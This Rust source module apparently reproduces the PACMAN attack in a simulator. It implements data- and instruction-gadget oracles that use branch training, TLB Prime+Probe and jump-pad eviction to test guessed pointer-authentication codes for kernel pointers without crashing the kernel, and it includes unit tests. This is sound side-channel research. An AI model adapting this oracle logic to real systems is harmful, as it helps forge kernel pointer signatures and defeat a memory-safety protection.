//! PAC oracles (paper §8.1): crash-free classification of PAC guesses.
//!
//! A PAC oracle answers "is this 16-bit PAC the correct signature for
//! this pointer under the victim's key?" *without ever causing an
//! architectural PAC failure*. Both variants follow the §8.1 recipe:
//!
//! 1. train the gadget's conditional branch taken (64 syscalls with
//!    `cond = 1`, which also trains the BTB for the instruction variant);
//! 2. reset the TLB hierarchy (23 same-L2-set loads);
//! 3. prime the monitored dTLB set (12 same-set loads);
//! 4. trigger the gadget with the guess-signed pointer and `cond = 0` —
//!    the gadget body runs only speculatively;
//! 5. *(instruction variant)* make 4 jump-pad syscalls to evict the
//!    kernel iTLB set, migrating any speculatively fetched translation
//!    into the shared dTLB;
//! 6. probe the monitored set and count misses.
//!
//! A correct PAC leaves the target translation in the monitored set and
//! the probe cascades into ≥5 misses; an incorrect PAC leaves ≤1.

use std::collections::HashMap;

use pacman_isa::ptr::with_pac_field;
use pacman_kernel::kext::JumpPads;
use pacman_kernel::KernelError;
use pacman_uarch::Trap;

use crate::probe::PrimeProbe;
use crate::system::System;

/// Miss count at or above which a trial is classified "correct PAC"
/// (paper: correct trials show at least 5 misses ≥99.6% of the time).
pub const CORRECT_MISS_THRESHOLD: usize = 5;

/// Number of branch-training syscalls per trial (paper §8.2).
pub const TRAIN_ITERS: usize = 64;

/// Errors surfaced by oracle operation.
#[derive(Debug)]
pub enum OracleError {
    /// The attacker's own memory operations trapped (setup bug).
    AttackerFault(Trap),
    /// A syscall failed — a [`KernelError::Panic`] here means the oracle
    /// *did* crash the kernel, which the PACMAN attack must never do.
    Kernel(KernelError),
    /// The target's dTLB set collides with a page the syscall path
    /// touches on every call; Prime+Probe on it cannot distinguish
    /// anything.
    HotSetCollision {
        /// The offending set.
        set: u64,
    },
}

impl std::fmt::Display for OracleError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            OracleError::AttackerFault(t) => write!(f, "attacker-side fault: {t}"),
            OracleError::Kernel(e) => write!(f, "kernel error during oracle trial: {e}"),
            OracleError::HotSetCollision { set } => {
                write!(f, "target dTLB set {set} collides with the syscall path")
            }
        }
    }
}

impl std::error::Error for OracleError {}

impl From<Trap> for OracleError {
    fn from(t: Trap) -> Self {
        OracleError::AttackerFault(t)
    }
}

impl From<KernelError> for OracleError {
    fn from(e: KernelError) -> Self {
        OracleError::Kernel(e)
    }
}

/// The oracle's verdict for one PAC guess.
#[derive(Clone, Eq, PartialEq, Debug)]
pub struct OracleVerdict {
    /// Miss counts of the individual trials.
    pub misses: Vec<usize>,
    /// Median miss count used for classification.
    pub median_misses: usize,
    /// Miss threshold at or above which the median means "correct PAC"
    /// (channel-specific: 12-way dTLB sets vs 4-way L1D sets).
    pub threshold: usize,
}

impl OracleVerdict {
    /// Builds a verdict with the dTLB channel's threshold.
    pub fn from_misses(misses: Vec<usize>) -> Self {
        Self::with_threshold(misses, CORRECT_MISS_THRESHOLD)
    }

    /// Builds a verdict with a channel-specific threshold.
    pub fn with_threshold(mut misses: Vec<usize>, threshold: usize) -> Self {
        let mut sorted = misses.clone();
        sorted.sort_unstable();
        let median_misses = sorted[sorted.len() / 2];
        misses.shrink_to_fit();
        Self { misses, median_misses, threshold }
    }

    /// Whether the guess classifies as the correct PAC.
    pub fn is_correct(&self) -> bool {
        self.median_misses >= self.threshold
    }
}

/// Common interface of the two §8.1 oracle variants.
pub trait PacOracle {
    /// Runs one raw trial and returns the probe's miss count.
    ///
    /// # Errors
    ///
    /// See [`OracleError`].
    fn trial(&mut self, sys: &mut System, target: u64, pac: u16) -> Result<usize, OracleError>;

    /// Number of trials per [`PacOracle::test_pac`] call (median rule).
    fn samples(&self) -> usize {
        1
    }

    /// Short name of the transmission channel, used in telemetry records
    /// (`"dtlb-data"`, `"itlb-instr"`, `"l1d-data"`).
    fn channel(&self) -> &'static str {
        "oracle"
    }

    /// Current per-trial branch-training iteration count.
    fn train_iters(&self) -> usize {
        TRAIN_ITERS
    }

    /// Overrides the per-trial branch-training iteration count.
    ///
    /// The gadget's conditional sits behind a 2-bit bimodal counter that
    /// persists across trials: one wrong-path trigger only decays it from
    /// strongly- to weakly-taken, so after a cold full training a handful
    /// of re-training syscalls restore saturation. The §8.2 warm brute
    /// sweep ([`crate::brute::BruteForcer::with_warm_sweep`]) exploits
    /// this; oracles without persistent training state ignore the call.
    fn set_train_iters(&mut self, _iters: usize) {}

    /// Tests one PAC guess for `target`, returning the verdict.
    ///
    /// # Errors
    ///
    /// See [`OracleError`].
    fn test_pac(
        &mut self,
        sys: &mut System,
        target: u64,
        pac: u16,
    ) -> Result<OracleVerdict, OracleError> {
        let mut misses = Vec::with_capacity(self.samples());
        for _ in 0..self.samples() {
            misses.push(self.trial(sys, target, pac)?);
        }
        Ok(OracleVerdict::from_misses(misses))
    }
}

/// Boxed oracles forward everything to the inner oracle, including
/// `test_pac` (the cache channel overrides it with its own threshold),
/// so channel-generic drivers can hold a `Box<dyn PacOracle>`.
impl<O: PacOracle + ?Sized> PacOracle for Box<O> {
    fn trial(&mut self, sys: &mut System, target: u64, pac: u16) -> Result<usize, OracleError> {
        (**self).trial(sys, target, pac)
    }

    fn train_iters(&self) -> usize {
        (**self).train_iters()
    }

    fn set_train_iters(&mut self, iters: usize) {
        (**self).set_train_iters(iters);
    }

    fn samples(&self) -> usize {
        (**self).samples()
    }

    fn channel(&self) -> &'static str {
        (**self).channel()
    }

    fn test_pac(
        &mut self,
        sys: &mut System,
        target: u64,
        pac: u16,
    ) -> Result<OracleVerdict, OracleError> {
        (**self).test_pac(sys, target, pac)
    }
}

/// State shared by the dTLB-channel oracles: per-target Prime+Probe
/// machinery.
#[derive(Debug, Default)]
pub(crate) struct ProbeCache {
    /// Whether a target in a dTLB set the syscall path touches is
    /// rejected ([`OracleError::HotSetCollision`]).
    guard_hot_sets: bool,
    /// Per target: its Prime+Probe state, or the hot set it sits in.
    by_target: HashMap<u64, Result<PrimeProbe, u64>>,
}

impl ProbeCache {
    /// A cache that rejects targets in hot dTLB sets.
    pub(crate) fn guarded() -> Self {
        Self { guard_hot_sets: true, by_target: HashMap::new() }
    }

    /// The Prime+Probe state for `target`, built on first use. Returns a
    /// borrow (not a clone): the eviction-set vectors are invariant
    /// across guesses, so trials must not re-materialise them. The hot
    /// set check is decided then too, once per target: the hot sets are
    /// fixed at boot.
    ///
    /// # Errors
    ///
    /// [`OracleError::HotSetCollision`] for a guarded hot target, on
    /// every call.
    pub(crate) fn get<'a>(
        &'a mut self,
        sys: &mut System,
        target: u64,
    ) -> Result<&'a PrimeProbe, OracleError> {
        let guard = self.guard_hot_sets;
        self.by_target
            .entry(target)
            .or_insert_with(|| {
                let set = pacman_isa::ptr::VirtualAddress::new(target).vpn() % 256;
                if guard && sys.hot_dtlb_sets().contains(&set) {
                    Err(set)
                } else {
                    Ok(PrimeProbe::for_target(sys, target))
                }
            })
            .as_ref()
            .map_err(|&set| OracleError::HotSetCollision { set })
    }
}

/// One dTLB-channel trial of gadget syscall `sc`, the recipe at the top
/// of this module: train, reset, prime, trigger with `target` signed by
/// `pac`, evict through `pads` (instruction gadgets only), probe.
///
/// Every trial is an executor scheduling point
/// ([`yield_now`](pacman_runner::executor::yield_now)): a starved
/// campaign's shard may run on this thread first, on its own system.
pub(crate) fn dtlb_trial(
    sys: &mut System,
    pp: &PrimeProbe,
    pads: Option<&JumpPads>,
    sc: u64,
    train_iters: usize,
    target: u64,
    pac: u16,
) -> Result<usize, OracleError> {
    pacman_runner::executor::yield_now();
    sys.train_gadget(sc, train_iters)?;
    pp.reset(sys)?;
    pp.prime(sys)?;
    sys.trigger_gadget(sc, with_pac_field(target, pac))?;
    if let Some(pads) = pads {
        // Kernel-iTLB self-eviction: migrate the speculative fetch's
        // translation into the shared dTLB.
        pads.evict(&mut sys.kernel, &mut sys.machine);
    }
    Ok(pp.probe(sys)?)
}

/// The data-gadget oracle (Figure 3(a), Figure 8(a)): the speculative
/// transmit is a load, whose dTLB fill userspace observes directly.
#[derive(Debug)]
pub struct DataPacOracle {
    probes: ProbeCache,
    samples: usize,
    /// Training iterations per trial.
    pub train_iters: usize,
}

impl DataPacOracle {
    /// Creates the oracle (1 sample per test; see
    /// [`DataPacOracle::with_samples`] for the §8.2 median-of-5 rule).
    pub fn new(_sys: &mut System) -> Result<Self, OracleError> {
        Ok(Self { probes: ProbeCache::guarded(), samples: 1, train_iters: TRAIN_ITERS })
    }

    /// Sets the per-test sample count (median classification).
    pub fn with_samples(mut self, samples: usize) -> Self {
        assert!(samples >= 1);
        self.samples = samples;
        self
    }
}

impl PacOracle for DataPacOracle {
    fn samples(&self) -> usize {
        self.samples
    }

    fn channel(&self) -> &'static str {
        "dtlb-data"
    }

    fn train_iters(&self) -> usize {
        self.train_iters
    }

    fn set_train_iters(&mut self, iters: usize) {
        self.train_iters = iters;
    }

    fn trial(&mut self, sys: &mut System, target: u64, pac: u16) -> Result<usize, OracleError> {
        let sc = sys.gadget.data_gadget;
        let pp = self.probes.get(sys, target)?;
        dtlb_trial(sys, pp, None, sc, self.train_iters, target, pac)
    }
}

/// The instruction-gadget oracle (Figure 3(b), Figure 8(b)): the
/// speculative transmit is an indirect call; the kernel-iTLB footprint is
/// made dTLB-visible via jump-pad self-eviction.
#[derive(Debug)]
pub struct InstrPacOracle {
    probes: ProbeCache,
    pads: HashMap<u64, JumpPads>,
    samples: usize,
    /// Training iterations per trial.
    pub train_iters: usize,
}

impl InstrPacOracle {
    /// Creates the oracle.
    pub fn new(_sys: &mut System) -> Result<Self, OracleError> {
        Ok(Self {
            probes: ProbeCache::guarded(),
            pads: HashMap::new(),
            samples: 1,
            train_iters: TRAIN_ITERS,
        })
    }

    /// Sets the per-test sample count (median classification).
    pub fn with_samples(mut self, samples: usize) -> Self {
        assert!(samples >= 1);
        self.samples = samples;
        self
    }
}

impl PacOracle for InstrPacOracle {
    fn samples(&self) -> usize {
        self.samples
    }

    fn channel(&self) -> &'static str {
        "itlb-instr"
    }

    fn train_iters(&self) -> usize {
        self.train_iters
    }

    fn set_train_iters(&mut self, iters: usize) {
        self.train_iters = iters;
    }

    fn trial(&mut self, sys: &mut System, target: u64, pac: u16) -> Result<usize, OracleError> {
        let sc = sys.gadget.instr_gadget;
        let pp = self.probes.get(sys, target)?;
        // Installed on first use and borrowed, like the probe state.
        let pads = self.pads.entry(target).or_insert_with(|| {
            JumpPads::install_for_target(&mut sys.kernel, &mut sys.machine, target, 4)
        });
        dtlb_trial(sys, pp, Some(pads), sc, self.train_iters, target, pac)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::system::SystemConfig;

    fn quiet_system() -> System {
        let mut cfg = SystemConfig::default();
        cfg.machine.os_noise = 0.0;
        System::boot(cfg)
    }

    #[test]
    fn data_oracle_distinguishes_correct_from_incorrect() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let mut oracle = DataPacOracle::new(&mut sys).unwrap();

        let good = oracle.test_pac(&mut sys, target, true_pac).unwrap();
        assert!(good.is_correct(), "true PAC rejected: {good:?}");
        for delta in [1u16, 0x10, 0x8000] {
            let bad = oracle.test_pac(&mut sys, target, true_pac ^ delta).unwrap();
            assert!(!bad.is_correct(), "wrong PAC accepted: {bad:?}");
        }
        assert_eq!(sys.kernel.crash_count(), 0, "the oracle must be crash-free");
    }

    #[test]
    fn instr_oracle_distinguishes_correct_from_incorrect() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let mut oracle = InstrPacOracle::new(&mut sys).unwrap();

        let good = oracle.test_pac(&mut sys, target, true_pac).unwrap();
        assert!(good.is_correct(), "true PAC rejected: {good:?}");
        let bad = oracle.test_pac(&mut sys, target, true_pac ^ 0x41).unwrap();
        assert!(!bad.is_correct(), "wrong PAC accepted: {bad:?}");
        assert_eq!(sys.kernel.crash_count(), 0);
    }

    #[test]
    fn repeated_trials_are_stable() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let mut oracle = DataPacOracle::new(&mut sys).unwrap();
        for round in 0..10 {
            let good = oracle.trial(&mut sys, target, true_pac).unwrap();
            let bad = oracle.trial(&mut sys, target, true_pac ^ 1).unwrap();
            assert!(good >= CORRECT_MISS_THRESHOLD, "round {round}: good={good}");
            assert!(bad < CORRECT_MISS_THRESHOLD, "round {round}: bad={bad}");
        }
    }

    #[test]
    fn median_sampling_filters_outliers() {
        let v = OracleVerdict::from_misses(vec![0, 0, 12, 0, 1]);
        assert_eq!(v.median_misses, 0);
        assert!(!v.is_correct());
        let v = OracleVerdict::from_misses(vec![12, 11, 0, 12, 12]);
        assert!(v.is_correct());
    }

    #[test]
    fn hot_set_targets_are_rejected() {
        let mut sys = quiet_system();
        let hot = sys.hot_dtlb_sets()[0] as usize;
        let target = sys.alloc_target(hot);
        let mut data = DataPacOracle::new(&mut sys).unwrap();
        let mut instr = InstrPacOracle::new(&mut sys).unwrap();
        let cycles = sys.machine.cycles;
        for _ in 0..3 {
            assert!(matches!(
                data.test_pac(&mut sys, target, 0),
                Err(OracleError::HotSetCollision { set }) if set == hot as u64
            ));
            assert!(matches!(
                instr.trial(&mut sys, target, 0),
                Err(OracleError::HotSetCollision { set }) if set == hot as u64
            ));
        }
        assert_eq!(sys.machine.cycles, cycles, "a rejected trial runs nothing");
    }

    #[test]
    fn oracle_works_under_default_os_noise_with_median_of_5() {
        // §8.2 runs under web-browsing noise; median-of-5 sampling keeps
        // the verdicts clean.
        let mut sys = System::boot(SystemConfig::default());
        assert!(sys.machine.config().os_noise > 0.0);
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let mut oracle = DataPacOracle::new(&mut sys).unwrap().with_samples(5);
        assert!(oracle.test_pac(&mut sys, target, true_pac).unwrap().is_correct());
        assert!(!oracle.test_pac(&mut sys, target, true_pac ^ 2).unwrap().is_correct());
        assert_eq!(sys.kernel.crash_count(), 0);
    }
}
